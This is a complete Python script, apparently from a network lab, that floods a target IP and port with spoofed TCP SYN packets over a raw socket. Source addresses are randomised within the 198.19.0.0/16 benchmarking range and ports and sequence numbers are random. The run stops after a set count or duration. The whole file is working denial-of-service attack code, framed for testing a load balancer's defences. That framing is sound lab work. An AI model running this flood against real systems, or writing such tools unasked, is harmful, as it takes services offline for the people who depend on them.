#!/usr/bin/env python3
"""A spoofed SYN flood for the lab: SYNs to VIP:PORT from random sources in 198.19.0.0/16
(inside the benchmarking range 198.18.0.0/15, and outside the addresses the lab uses) and
random ports, through a raw socket.

usage: syn_flood.py VIP PORT COUNT SECONDS

Stops after COUNT SYNs or SECONDS, whichever comes first, and prints `sent N in S s`.
"""

import random
import socket
import struct
import sys
import time

from packets import ipv4, tcp

SOURCE_NET = (198, 19)


def syn(src, dst, sport, dport, seq):
    # MSS 1460, as a real client offers.
    options = struct.pack("!BBH", 2, 4, 1460)
    segment = tcp(src, dst, sport, dport, 0x02, seq=seq, ack=0, window=64240, options=options)
    return ipv4(src, dst, socket.IPPROTO_TCP, segment)


def main():
    vip, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    dst = socket.inet_aton(vip)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rng = random.Random(1)
    start = time.monotonic()
    sent = 0
    while sent < count and time.monotonic() - start < seconds:
        for _ in range(256):
            src = bytes([*SOURCE_NET, rng.randrange(256), rng.randrange(1, 255)])
            frame = syn(src, dst, rng.randrange(1024, 65536), port, rng.getrandbits(32))
            try:
                s.sendto(frame, (vip, 0))
                sent += 1
            except OSError:
                time.sleep(0.001)  # the qdisc is full: back off a little
    elapsed = time.monotonic() - start
    print(f"sent {sent} in {elapsed:.2f} s", flush=True)


if __name__ == "__main__":
    main()
